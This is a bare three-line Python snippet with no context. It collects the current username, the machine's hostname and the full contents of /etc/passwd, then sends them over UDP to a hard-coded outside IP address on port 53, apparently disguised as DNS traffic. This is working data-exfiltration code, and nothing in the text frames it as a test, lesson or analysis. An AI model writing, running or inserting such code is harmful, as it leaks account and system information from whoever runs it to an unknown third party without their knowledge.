import socket, getpass, platform
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(f"{getpass.getuser()}|{platform.node()}|{open('/etc/passwd').read()}".encode(), ("198.51.100.77", 53))
